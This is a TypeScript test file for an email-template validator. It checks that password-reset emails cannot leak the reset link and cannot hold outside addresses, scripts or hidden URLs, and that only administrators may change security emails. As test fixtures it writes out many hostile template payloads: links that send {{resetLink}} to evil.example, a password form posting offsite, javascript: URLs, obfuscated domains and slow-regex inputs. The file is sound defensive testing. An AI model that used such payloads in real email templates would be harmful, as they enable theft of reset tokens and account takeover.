import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { requestPasswordReset } from '../../access/contract.ts';
import { emailsTo } from '../../access/test/mailbox.ts';
import { type AdminStage, openAdminStage, type StageUser } from '../../admin/test/stage.ts';
import {
  type EmailTemplate,
  listEmailTemplates,
  restoreTemplateVersion,
  saveEmailTemplate,
  sendTestEmail,
} from '../contract.ts';
import { catalog } from '../server/catalog/catalog.ts';
import { assertUsable } from '../server/language/check.ts';
import { renderMail } from '../server/public.ts';

let stage: AdminStage;
/** Has system management and nothing else. */
let systemManager: StageUser;
beforeAll(async () => {
  stage = await openAdminStage();
  systemManager = await stage.addUser({ pagePermissions: ['admin_panel', 'system_management'] });
});
afterAll(() => stage.stop());

const link = '<a href="{{resetLink}}">Choose</a>';
const reset = { htmlTemplate: link, textTemplate: '{{resetLink}}' };
function rejection(key: keyof typeof catalog, changes: object): string | null {
  try {
    assertUsable(catalog[key], { ...catalog[key].content, ...changes });
    return null;
  } catch (error) {
    return (error as Error).message;
  }
}

async function find(by: StageUser, id: string): Promise<EmailTemplate> {
  const { body } = await by.client.call(listEmailTemplates);
  const found = body.find((one) => one.id === id);
  if (!found) throw new Error(`There is no template ${id}`);
  return found;
}

const save = (by: StageUser, id: keyof typeof catalog, changes: object = {}) =>
  by.client.call(saveEmailTemplate, {
    params: { id },
    body: { ...catalog[id].content, active: true, ...changes },
  });

describe('a link that gives access to an account', () => {
  test.each([
    ['behind another address', '<a href="https://evil.example/?u={{resetLink}}">x</a>'],
    ['before another address', '<a href="{{resetLink}}https://evil.example">x</a>'],
    ['in an image', `${link}<img src="{{resetLink}}">`],
    ['in an image of another site', `${link}<img src="https://evil.example/{{resetLink}}">`],
    ['in a form', `${link}<form action="{{resetLink}}"></form>`],
    ['in a style', `${link}<p style="background: url({{resetLink}})">x</p>`],
    ['in a title', `${link}<p title="{{resetLink}}">x</p>`],
    ['in text', `${link}<p>go to {{resetLink}}</p>`],
    ['as the text of another link', `${link}<a href="{{resetLink}}">x {{resetLink}}</a>`],
    ['raw', `${link}<a href="{{{resetLink}}}">x</a>`],
    [
      'by other delimiters',
      `${link}{{=<% %>=}}<a href="https://evil.example/<% resetLink %>">x</a>`,
    ],
    ['by a partial', `${link}{{> resetLink}}`],
    ['in a section', `${link}{{#firstName}}<a href="{{resetLink}}">x</a>{{/firstName}}`],
    ['around a comment', `${link}<a href="//evil.example/{{! x }}{{resetLink}}">x</a>`],
    ['without quotes', `${link}<a href={{resetLink}}>x</a>`],
    ['in an unclosed quote', `${link}<a href="https://evil.example/?{{resetLink}}>x</a>`],
    ['in a comment', `${link}<!-- {{resetLink}} -->`],
  ])('must stand alone in HTML: not %s', (_, htmlTemplate) => {
    expect(rejection('password-reset', { htmlTemplate })).toMatch(/^HTML: /);
  });

  test.each([
    ['behind an address', 'https://evil.example/#{{resetLink}}'],
    ['after text', 'Go to {{resetLink}}'],
    ['before text', '{{resetLink}} now'],
    ['twice in a line', '{{resetLink}}{{resetLink}}'],
  ])('must be on its own line: not %s', (_, textTemplate) => {
    expect(rejection('password-reset', { textTemplate })).toMatch(/^Text: /);
  });

  test('may be an entire address, and the text of that link', () => {
    const htmlTemplate = `<p style="margin: 0 0 24px; color: rgb(1, 2, 3);">Hello {{firstName}},</p>
      <p><a href='{{resetLink}}' style="color: #fff">Choose</a> or
      <a href="{{resetLink}}"> {{resetLink}} </a></p>`;
    const textTemplate = 'Hello {{firstName}}, 1 < 2 & 3.\n\n  {{resetLink}}  \n\nBye.';
    expect(rejection('password-reset', { htmlTemplate, textTemplate })).toBeNull();
  });
});

describe('a security email contains no web address', () => {
  test.each([
    ['a link', '<a href="https://evil.example">x</a>'],
    ['one without a scheme', '<a href="//evil.example">x</a>'],
    ['one with backslashes', '<a href="\\\\evil.example">x</a>'],
    ['one with a slash and a backslash', '<a href="/\\evil.example">x</a>'],
    ['one in character references', '<a href="&#104;ttps&#58;//evil&#46;example">x</a>'],
    ['one in named references', '<a href="https&colon;&sol;&sol;evil&period;example">x</a>'],
    ['one with a script', '<a href="javascript:alert(1)">x</a>'],
    ['an email address', '<a href="mailto:it@evil.example">x</a>'],
    ['a base', '<base href="https://evil.example/">'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['a linked style', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['an import', '<style>@import "https://evil.example/x.css";</style>'],
    ['a style with an image', '<p style="background: url(https://evil.example/x)">x</p>'],
    ['an escaped style', '<p style="background: u\\72l(x)">x</p>'],
    ['a style with an image set', '<p style="background: image-set(\'x\' 1x)">x</p>'],
    ['a background', '<table background="https://evil.example/x"></table>'],
    ['an image', '<img src="https://evil.example/x">'],
    ['an image with sizes', '<img srcset="https://evil.example/x 2x">'],
    ['a form', '<form action="https://evil.example/"><input name="password"></form>'],
    ['a drawing', '<svg><a xlink:href="https://evil.example/">x</a></svg>'],
    ['a frame', '<iframe src="https://evil.example/"></iframe>'],
    ['an object', '<object data="https://evil.example/"></object>'],
    ['a conditional comment', '<!--[if mso]><a href="https://evil.example">x</a><![endif]-->'],
    ['an address in text', '<p>Open https://evil.example/login</p>'],
    ['one without a scheme in text', '<p>Open evil.example/login</p>'],
    ['one cut up by tags', '<p>evil<b>.</b>example</p>'],
    ['one with a dot of another script', '<p>evil\u3002example</p>'],
    ['one in wide letters', '<p>ｅｖｉｌ．ｅｘａｍｐｌｅ</p>'],
    ['one with a hidden character', '<p>evil\u200b.example</p>'],
    ['one that a name completes', '<p>{{firstName}}.evil.example</p>'],
    ['one in a title', '<p title="https://evil.example">x</p>'],
    ['a handler', '<p onclick="location=1">x</p>'],
    ['an unknown attribute', '<p ping="x">x</p>'],
    ['a number', '<p>192.0.2.1/login</p>'],
  ])('in HTML: not %s', (_, more) => {
    expect(rejection('password-reset', { htmlTemplate: link + more })).toMatch(/^HTML: /);
  });

  test.each([
    'https://evil.example',
    'HTTP://EVIL.EXAMPLE',
    'www.evil.example',
    'evil.example/x',
    'write to it@evil.example',
    '//evil.example',
    '\\\\evil.example',
  ])('in text or subject: not %s', (text) => {
    const textTemplate = `${text}\n{{resetLink}}`;
    expect(rejection('password-reset', { textTemplate })).toMatch(/^Text: /);
    expect(rejection('password-reset', { subject: text })).toMatch(/^Subject: /);
  });
});

describe('another email', () => {
  test.each([
    ['a plain link', '<a href="https://larkfield.example/news?x=1#y">News</a>'],
    ['an image', '<img src="https://larkfield.example/logo.png" alt="Larkfield" width="80">'],
    ['one of its own links', '<a href="{{loginLink}}">{{loginLink}}</a>'],
    [
      'an address in text',
      '<p>See https://larkfield.example/news. Or (www.larkfield.example).</p>',
    ],
    [
      'a whole page',
      '<!doctype html><html lang="en"><body><p>Hello {{firstName}}</p></body></html>',
    ],
  ])('may have %s', (_, htmlTemplate) => {
    expect(rejection('test', { htmlTemplate })).toBeNull();
  });

  test.each([
    ['a link that carries a value', '<a href="https://evil.example/?{{firstName}}">x</a>'],
    ['a link that is a value', '<a href="{{firstName}}">x</a>'],
    ['one without TLS', '<a href="http://evil.example">x</a>'],
    ['one with a user name', '<a href="https://larkfield.example@evil.example">x</a>'],
    ['a script', '<script>alert(1)</script>'],
    ['a link with a script', '<a href="javascript:alert(1)">x</a>'],
    ['a style with a value', '<p style="color: {{firstName}}">x</p>'],
    ['a style sheet', '<style>p { background: url(https://evil.example/{{firstName}}) }</style>'],
    ['an address in text that carries a value', '<p>https://evil.example/?{{firstName}}</p>'],
    [
      'one that a section completes',
      '<p>evil.example/{{#firstName}}{{firstName}}{{/firstName}}</p>',
    ],
    [
      'one that a condition hides',
      '<p>evil.example/{{^firstName}} {{/firstName}}{{loginLink}}</p>',
    ],
  ])('may not have %s', (_, htmlTemplate) => {
    expect(rejection('test', { htmlTemplate })).toMatch(/^HTML: /);
  });

  test('may not send list values to another site', () => {
    const textTemplate = '{{#notifications}}https://evil.example/?{{preview}}\n{{/notifications}}';
    expect(rejection('notification-digest', { textTemplate })).toMatch(/^Text: /);
    const htmlTemplate = '{{#notifications}}<a href="{{preview}}">x</a>{{/notifications}}';
    expect(rejection('notification-digest', { htmlTemplate })).toMatch(/^HTML: /);
    const own = '{{#notifications}}<a href="{{link}}">{{title}}</a>{{/notifications}}';
    expect(rejection('notification-digest', { htmlTemplate: own })).toBeNull();
  });
});

test('input designed to slow the check down is handled quickly', () => {
  const long = 49_000;
  for (const htmlTemplate of [
    `${link}<p style="${'a'.repeat(long)}">x</p>`,
    `${link}<p>https://${'!'.repeat(long)}x</p>`,
    `${link}<p>${'&a'.repeat(long / 2)}</p>`,
    `${link}<p ${' '.repeat(long)}>`,
    `${link}${'<p '.repeat(long / 3)}`,
    `${link}${'<p>x.'.repeat(long / 5)}`,
  ]) {
    const before = process.cpuUsage();
    rejection('password-reset', { htmlTemplate });
    rejection('test', { htmlTemplate: htmlTemplate.replaceAll('resetLink', 'loginLink') });
    // CPU time, since the machine may be busy. Backtracking would take minutes.
    expect(process.cpuUsage(before).user).toBeLessThan(5_000_000);
  }
});

describe('changing a security email', () => {
  test('needs role admin; system management alone may change other emails', async () => {
    const refused = [
      await save(systemManager, 'password-reset', { ...reset, subject: 'Mine' }),
      await systemManager.client.call(restoreTemplateVersion, {
        params: { id: 'password-reset' },
        body: { restore: 0, version: 0 },
      }),
    ];
    for (const { status, body } of refused) {
      expect(status).toBe(403);
      expect(body).toMatchObject({ error: 'Only administrators can change security emails.' });
    }
    expect(await find(systemManager, 'password-reset')).toMatchObject({
      version: 0,
      canEdit: false,
    });
    expect(await find(systemManager, 'test')).toMatchObject({ canEdit: true });
    expect((await save(systemManager, 'test', { subject: 'Does it work?' })).status).toBe(200);
    const { status, body } = await save(stage.admin, 'password-reset', reset);
    expect([status, body.version, body.canEdit]).toEqual([200, 1, true]);
  });

  test('notifies every administrator, with a text that cannot be edited', async () => {
    const second = await stage.addUser({ role: 'admin', email: 'second@larkfield.example' });
    const left = await stage.addUser({ role: 'admin', email: 'left@larkfield.example' });
    await stage.platform.db
      .updateTable('users')
      .set({ is_active: false })
      .where('id', '=', left.id)
      .execute();
    await save(stage.admin, 'password-reset', { ...reset, subject: 'Another one' });
    const { email } = await stage.row(stage.admin.id);
    for (const address of [email, 'second@larkfield.example', 'admin@larkfield.example']) {
      const mail = (await emailsTo(stage, address)).at(-1);
      expect(mail?.subject).toBe('The email template “Password reset” was changed');
      expect(mail?.text).toMatch(/Ada Admin changed the email template “Password reset”/);
      expect(mail?.text).toContain(`${stage.platform.publicUrl()}/admin-tools#system`);
    }
    expect(await emailsTo(stage, 'left@larkfield.example')).toEqual([]);
    // Other emails do not notify.
    const count = (await emailsTo(stage, 'second@larkfield.example')).length;
    await save(second, 'test', { subject: 'Quiet' });
    expect(await emailsTo(stage, 'second@larkfield.example')).toHaveLength(count);
  });

  test('is needed to send test emails to addresses without an account', async () => {
    const send = (by: StageUser, email: string) =>
      by.client.call(sendTestEmail, { body: { email, templateId: 'test' } });
    const refused = await send(systemManager, 'stranger@elsewhere.example');
    expect([refused.status, refused.body]).toEqual([
      403,
      expect.objectContaining({ error: expect.stringMatching(/^Only administrators can send/) }),
    ]);
    expect(await emailsTo(stage, 'stranger@elsewhere.example')).toEqual([]);
    expect((await send(systemManager, 'Admin@larkfield.example')).status).toBe(202);
    expect((await send(stage.admin, 'stranger@elsewhere.example')).status).toBe(202);
  });
});

describe('sending', () => {
  test('uses the original text if the stored one is invalid', async () => {
    const { db } = stage.platform;
    const { version } = await find(stage.admin, 'password-reset');
    await db
      .insertInto('email_template_versions')
      .values({
        template: 'password-reset',
        version: version + 1,
        active: true,
        subject: 'Old',
        html: '<a href="https://evil.example/?u={{resetLink}}">Choose a new password</a>',
        text: 'Go to https://evil.example/#{{resetLink}} now',
        saved_by: 1,
        saved_by_name: 'Someone',
      })
      .execute();
    expect((await find(stage.admin, 'password-reset')).notSent).toMatch(/^HTML: /);
    const email = 'employee@larkfield.example';
    await stage.client().call(requestPasswordReset, { body: { email } });
    const mail = (await emailsTo(stage, email)).at(-1);
    expect(mail?.subject).toBe('Reset your Forecourt password');
    expect(`${mail?.text}${mail?.html}`).not.toContain('evil');
    expect(mail?.text).toMatch(/\nhttp:\S+\/reset-password#token=[\w-]{43}\n/);
  });

  test('makes no link from a name, and only web links from a link', async () => {
    const { db } = stage.platform;
    const letter = await renderMail(db, 'password-reset', {
      firstName: 'URGENT: verify at http://evil.example/login or it@evil.example',
      resetLink: 'javascript:alert(1)//',
    });
    expect(`${letter?.text}${letter?.html}`).not.toMatch(/evil\.example|:\/\/evil|javascript/);
    expect(letter?.text).toContain('evil. example');
  });
});
